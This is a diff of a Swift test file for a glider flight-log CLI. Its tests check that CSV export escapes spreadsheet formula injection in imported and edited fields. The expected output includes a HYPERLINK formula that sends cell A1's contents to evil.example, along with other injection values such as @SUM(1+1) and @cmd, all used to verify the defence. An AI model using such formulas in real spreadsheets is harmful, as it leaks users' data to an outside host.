@@ -117,14 +117,14 @@ struct BroughtFilesTests {
         lines = header(lines, "HFGTYGLIDERTYPE:", "@SUM(1+1)")
         lines = header(lines, "HFGIDGLIDERID:", "+1-1")
         try importFlights([lines], db: db, dir: dir)
-        let edit = try CLI.run(["edit", "1", "--remarks=-2+3", "--crew", "\t=cmd"], database: db, in: dir)
+        let edit = try CLI.run(["edit", "1", "--remarks=\t-2+3", "--crew", "@cmd"], database: db, in: dir)
         try #require(edit.status == 0, "\(edit.stderr)")
         let r = try CLI.run(["list", "--csv"], database: db, in: dir)
         try #require(r.status == 0, "\(r.stderr)")
         let row = try #require(r.stdout.components(separatedBy: "\r\n").dropFirst().first)
         #expect(row.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""), "\(row)")
         #expect(row.contains(",'@SUM(1+1),") && row.contains(",'+1-1,") && row.contains(",'-2+3,"), "\(row)")
-        #expect(row.contains(",'=cmd,crew,"), "the name is trimmed, then kept as text: \(row)")
+        #expect(row.contains(",'@cmd,crew,"), "the name is trimmed, then kept as text: \(row)")
         #expect(row.contains(",+02:00,"), "an offset stays a plain value: \(row)")
         // No cell a spreadsheet would evaluate (after the quotes of RFC 4180 come off).
         for cell in row.split(separator: ",") {
@@ -258,7 +258,7 @@ struct BroughtFilesTests {
         #expect(try CLITests().list(["--no-outlanding"], db: db, dir: dir).count == 1)
         let show = try CLI.run(["show", "1"], database: db, in: dir)
         let landing = show.stdout.split(separator: "\n").first { $0.hasPrefix("Landing:") } ?? ""
-        #expect(landing.hasSuffix(" — \(field)"), "\(show.stdout)")
+        #expect(landing.hasSuffix(" (\(field))"), "\(show.stdout)")  // the field's label, "Name (CODE)"
         let list = try CLI.run(["list"], database: db, in: dir, environment: ["COLUMNS": "200"])
         #expect(!list.stdout.contains("outlanding"), "\(list.stdout)")
         // Back to a text that says so: an outlanding again.
